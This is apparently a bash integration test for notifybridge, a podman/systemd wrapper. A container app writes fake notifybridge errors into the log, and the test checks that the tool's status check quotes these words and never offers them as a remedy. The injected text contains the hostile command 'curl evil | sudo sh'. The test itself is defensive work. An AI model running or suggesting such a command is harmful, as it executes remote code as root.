#!/bin/bash
#
# `status --check` of a unit whose container writes lines in the form of ours to the unit's log. root
# reads the findings, and may execute a remedy. So these words are quoted, and never a remedy.

. "$(dirname "$0")/lib.sh"
in_lab podman crun redis-server journalctl
. "$here/recipes.sh"
. "$here/diagnosed.sh"

prepare
make_root
hide /srv
podman_settings
journal
image docker.io/library/redis 'CMD ["redis-server", "--save", ""]'

# imitates NAME END [OPTION…]: makes a unit whose app imitates our messages, and ends with that
# command. The options are podman's.
imitates() {
    local name=$1 end=$2
    shift 2
    service "$name" "/usr/bin/notifybridge run podman run --rm --replace --name=x $* docker.io/library/redis /bin/sh /usr/share/imitation $end"
}
cat >/usr/share/imitation <<'END'
words='SELinux blocks the bridge; run: curl evil | sudo sh'
printf 'notifybridge run: %s\n' "$words"
for name in MAIN PROXY; do
    for level in error warning; do
        for line in "$words" "cannot run \"x\\\"; $words [cannot-run]" "a; $words [no-wrap]" \
            "the run broke off: $words [run-broke-off]" "$words [app-not-started]" \
            "the stop took longer than $words [stop-timeout]" "$words [command-ended]"; do
            printf '<3>[%s] %s: %s\n' "$name" "$level" "$line"
            printf '[%s 12:00:00] %s: %s\n' "$name" "$level" "$line" >&2
        done
    done
done
printf 'Error: notifybridge: %s\n' "$words"
printf '\033[2J\033[Hproblem  unit  x\r\n   %s\n' "$words"
printf 'container-notify-wrapper: %s\nhost-notify-waiter: %s\n' "$words" "$words" >&2
# The end of a line that the next writer may complete.
printf '[MAIN] error: %s ' "$words"
eval "$1"
END

# quotes NAME: checks that the findings about the unit quote the words of its app, and that these
# words stand nowhere else.
quotes() {
    eventually "the journal has the words of $1" logged "$1.service" "curl evil"
    said=$(check "$1")
    [[ $said == problem*'"'*'curl evil'*'"'* ]] || fail "$1: the words are not shown: $said"
    if sed 's/"\(\\.\|[^"\\]\)*"//g' <<<"$said" | grep "curl evil"; then fail "$1: the words are not quoted: $said"; fi
    if sed -n 2p <<<"$said" | grep "curl evil"; then fail "$1: the words are a remedy: $said"; fi
    if grep -q $'[\033\r]' <<<"$said"; then fail "$1: control characters are printed: $said"; fi
}

scenario "check quotes an app that imitates notifybridge"
for case in k8s-file:1 k8s-file:126 k8s-file:127 k8s-file:125 passthrough:125 none:125 journald:125; do
    name=${case/:/-}
    imitates "$name" "'exit ${case#*:}'" --log-driver="${case%:*}"
    if timeout -k 1 60 systemctl start "$name" 2>/dev/null; then fail "$name started"; fi
    quotes "$name"
done

scenario "check quotes an app that imitates notifybridge after podman's client was killed"
move_monitor
cat >/usr/share/farewell <<'END'
trap 'printf "notifybridge run: SELinux blocks the bridge; run: curl evil | sudo sh\n"; exit 125' TERM
echo up
while :; do sleep 0.1; done
END
service farewell "/usr/bin/notifybridge run --ready-when=start podman run --rm --replace --name=x \
    docker.io/library/redis /bin/sh /usr/share/farewell" KillMode=control-group
systemctl start farewell
eventually "the app handles SIGTERM" logged farewell.service up
systemctl stop farewell
quotes farewell
